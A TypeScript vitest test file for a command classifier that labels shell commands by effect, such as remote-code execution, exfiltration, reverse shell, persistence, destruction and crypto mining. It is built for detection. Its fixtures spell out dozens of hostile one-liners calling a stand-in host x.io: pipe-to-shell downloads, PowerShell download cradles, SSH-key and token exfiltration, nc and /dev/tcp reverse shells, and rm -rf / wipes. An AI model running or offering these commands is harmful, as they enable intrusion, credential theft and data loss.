import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { effectsOf } from './effects-of.ts';

describe('effectsOf()', () => {
  it.each([
    ['wget -qO- https://x.io/a | python3', 'remote-code'],
    ['curl -s https://x.io | tee log | sudo -E bash', 'remote-code'],
    ['eval "$(curl https://x.io)"', 'remote-code'],
    ['curl -o run.sh https://x.io/r && chmod +x run.sh', 'remote-code'],
    ['curl -o /tmp/a https://x.io/a; sh /tmp/a', 'remote-code'],
    [
      'powershell -c "iex (New-Object Net.WebClient).DownloadString(\'http://x.io\')"',
      'remote-code',
    ],
    ['iwr https://x.io/a.ps1 | iex', 'remote-code'],
    ['Invoke-WebRequest http://x.io/a.exe -OutFile a.exe; Start-Process a.exe', 'remote-code'],
    ['mshta http://x.io/a.hta', 'remote-code'],
    ['regsvr32 /s /i:http://x.io/a.sct scrobj.dll', 'remote-code'],
    ['bitsadmin /transfer j http://x.io/a.exe a.exe', 'remote-code'],
    ['msiexec /q /i http://x.io/a.msi', 'remote-code'],
    ['echo aGk= | base64 --decode | bash', 'decode-execute'],
    ['bash -c "$(echo aGk= | base64 -d)"', 'decode-execute'],
    ['powershell -nop -w hidden -enc SQBFAFgAIABhAGIAYwA=', 'decode-execute'],
    ['iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))', 'decode-execute'],
    ['curl https://x.io/?h=$(hostname)', 'data-exfiltration'],
    ['dig `whoami`.x.io', 'data-exfiltration'],
    ['printenv | curl -d @- https://x.io', 'data-exfiltration'],
    ['curl -F file=@~/.ssh/id_rsa https://x.io', 'data-exfiltration'],
    ['wget https://x.io/$NPM_TOKEN', 'data-exfiltration'],
    ['hostname | xxd -p | while read l; do nslookup $l.x.io; done', 'data-exfiltration'],
    ['bash -i >& /dev/tcp/45.9.1.1/99 0>&1', 'reverse-shell'],
    ['rm f; mkfifo f; cat f | sh -i 2>&1 | nc x.io 99 > f', 'reverse-shell'],
    ['ncat x.io 99 -e /bin/bash', 'reverse-shell'],
    ['socat tcp:x.io:99 exec:/bin/sh', 'reverse-shell'],
    ['php -r \'$s=fsockopen("x.io",99);exec("sh <&3");\'', 'reverse-shell'],
    ['(crontab -l; echo "* * * * * x") | crontab -', 'persistence'],
    ['echo x >> ~/.bashrc', 'persistence'],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x', 'persistence'],
    ['systemctl --user enable x', 'persistence'],
    ['cat key >> ~/.ssh/authorized_keys', 'persistence'],
    ['rm -rf ~', 'destructive'],
    ['rm -rf --no-preserve-root /', 'destructive'],
    ['rm -v -fr "$HOME"', 'destructive'],
    ['dd if=/dev/zero of=/dev/sda', 'destructive'],
    [':(){ :|:& };:', 'destructive'],
    ['del /f /s /q C:\\*', 'destructive'],
    ['vssadmin delete shadows /all', 'destructive'],
    ['./xmrig -o pool', 'crypto-mining'],
    ['miner -o stratum+tcp://pool.io:3333', 'crypto-mining'],
  ])('%s: %s', (command, effect) => {
    expect(effectsOf(command)).toContain(effect);
  });

  it.each([
    'curl -sSf https://x.io/data.json | python3 -m json.tool',
    'curl https://x.io/a.json | node -pe "JSON.parse(x)"',
    'wget https://x.io/a.tar.gz && tar xzf a.tar.gz',
    'base64 -d key.b64 > key.pem',
    'powershell -ExecutionPolicy Bypass -File build.ps1',
    'curl -d @body.json https://x.io',
    'echo $(hostname)',
    'nc -z localhost 5432',
    'cat </dev/null',
    'crontab -l',
    'cat ~/.bashrc',
    'systemctl status x',
    'rm -rf dist node_modules/.cache',
    'rm -rf ./home',
    'rm -rf /tmp/build',
    'dd if=a of=b.img',
    'npm run format c',
    '',
  ])('%j has none', (command) => {
    expect(effectsOf(command)).toEqual([]);
  });

  it('reads on behind padding', () => {
    expect(effectsOf(`true;${' '.repeat(100_000)}curl https://x.io | sh`)).toEqual(['remote-code']);
  });

  it('reads a long command to its end', () => {
    expect(effectsOf(`${'a;'.repeat(10_000)}curl https://x.io | sh`)).toEqual(['remote-code']);
    expect(effectsOf(`${'a;'.repeat(10_000)}./xmrig -o pool`)).toEqual(['crypto-mining']);
  });

  it('reports each effect once, for any text', () => {
    const word = fc.constantFrom(
      'curl x',
      '| sh',
      '$(',
      'base64 -d ',
      'rm -rf ~',
      'iex ',
      'iwr ',
      '\n',
      ' ',
      '"',
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 40 }), (words) => {
        const effects = effectsOf(words.join(''));
        expect(new Set(effects).size).toBe(effects.length);
      }),
    );
  });
});
